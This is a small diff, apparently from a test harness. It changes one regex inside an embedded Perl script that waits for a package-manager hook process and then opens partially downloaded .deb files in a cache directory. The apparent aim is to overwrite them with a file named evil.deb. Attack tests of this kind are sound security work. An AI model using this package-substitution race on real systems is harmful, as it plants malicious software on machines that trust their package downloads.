@@ -30,7 +30,7 @@ const DOWNLOADER = `
 use strict; use Fcntl; $| = 1;
 my ($evil) = do { local $/; open my $f, "<", "/opt/evil.deb" or die; <$f> };
 my (%held, $seen);
-sub hook { for (</proc/[0-9]*/cmdline>) { open my $f, "<", $_ or next; return 1 if (<$f> // "") =~ /--apt-hook/ } 0 }
+sub hook { for (</proc/[0-9]*/cmdline>) { open my $f, "<", $_ or next; return 1 if (<$f> // "") =~ /--hook/ } 0 }
 until (%held) {
   for my $file (glob "/var/cache/aegis/archives/*/partial/swapped_*.deb") {
     sysopen my $f, $file, O_RDWR or next;
